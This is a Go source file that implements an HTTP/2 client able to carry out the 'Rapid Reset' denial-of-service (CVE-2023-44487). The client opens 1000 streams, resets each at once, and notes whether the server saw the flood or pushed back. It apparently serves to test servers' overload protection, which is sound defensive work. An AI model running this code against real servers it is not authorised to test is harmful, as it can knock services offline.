// Copyright The sa-controller-manager Authors.
// SPDX-License-Identifier: Apache-2.0

package overload

import (
	"bufio"
	"bytes"
	"cmp"
	"errors"
	"net"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resets is how many streams a client resets that does so: many times as many as the server
// lets wait.
const resets = 1000

// event is something that happens once. One goroutine alone says so.
type event chan struct{}

func (e event) happens() {
	if !e.happened() {
		close(e)
	}
}

func (e event) happened() bool {
	select {
	case <-e:
		return true
	default:
		return false
	}
}

// h2client is a client that speaks HTTP/2 frame by frame, and hears what the server says. What
// it writes is on its way once it is flushed.
type h2client struct {
	net.Conn

	out     *bufio.Writer
	framer  *http2.Framer
	header  bytes.Buffer
	encoder *hpack.Encoder

	greeted  event // the server speaks HTTP/2
	answered event // it has read all that was sent before the ping
	refused  event // it will not have a stream, or the connection
	calmed   event // it will not have the connection, because this is too much for it
	ended    event // the connection has ended
	// accepted reports that a call of gRPC was answered well.
	accepted atomic.Bool
}

// speak begins as a client of HTTP/2 does. The connection is closed if that fails.
func speak(conn net.Conn) (*h2client, error) {
	out := bufio.NewWriterSize(conn, 32<<10)
	s := &h2client{
		Conn: conn, out: out, framer: http2.NewFramer(out, conn),
		greeted: make(event), answered: make(event), refused: make(event), calmed: make(event), ended: make(event),
	}
	s.encoder = hpack.NewEncoder(&s.header)
	s.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	_, err := out.WriteString(http2.ClientPreface)
	if err := errors.Join(err, s.framer.WriteSettings(), out.Flush()); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	go s.listen()
	return s, nil
}

// listen hears what the server says, and answers nothing.
func (s *h2client) listen() {
	defer s.ended.happens()
	for {
		frame, err := s.framer.ReadFrame()
		if _, one := errors.AsType[http2.StreamError](err); one {
			continue
		}
		if err != nil {
			return
		}
		s.hear(frame)
	}
}

func (s *h2client) hear(frame http2.Frame) {
	switch said := frame.(type) {
	case *http2.SettingsFrame:
		s.greeted.happens()
	case *http2.PingFrame:
		if said.IsAck() {
			s.answered.happens()
		}
	case *http2.GoAwayFrame:
		s.refused.happens()
		if said.ErrCode == http2.ErrCodeEnhanceYourCalm {
			s.calmed.happens()
		}
	case *http2.RSTStreamFrame:
		s.refused.happens()
	case *http2.MetaHeadersFrame:
		for _, field := range said.Fields {
			if field.Name != "grpc-status" {
				continue
			}
			if field.Value == "0" {
				s.accepted.Store(true)
				continue
			}
			s.refused.happens()
		}
	}
}

// hangUp ends the connection and returns when nothing more is heard.
func (s *h2client) hangUp() {
	_ = s.Close() // it may have ended already
	<-s.ended
}

// open begins a request, on the nth stream.
func (s *h2client) open(n int, fields ...hpack.HeaderField) (stream uint32, err error) {
	s.header.Reset()
	for _, field := range fields {
		if err := s.encoder.WriteField(field); err != nil {
			return 0, err
		}
	}
	stream = uint32(2*n + 1) //nolint:gosec // G115: a few thousand at most
	return stream, s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: s.header.Bytes(), EndHeaders: true})
}

// reset opens streams and resets each at once (CVE-2023-44487). The server has seen it once
// it answers the ping that comes last, or says that it is too much.
func (s *h2client) reset(v *visit, fields ...hpack.HeaderField) error {
	defer s.hangUp()
	err := s.sendResets(fields)
	select {
	case <-s.answered:
		v.struck = true
	case <-s.calmed:
		v.struck = true
	case <-s.ended:
	}
	return cmp.Or(err, errors.New("the server has not said that it saw the resets"))
}

func (s *h2client) sendResets(fields []hpack.HeaderField) error {
	for i := range resets {
		stream, err := s.open(i, fields...)
		if err != nil {
			return err
		}
		if err := s.framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return errors.Join(s.framer.WritePing(false, [8]byte{1}), s.out.Flush())
}
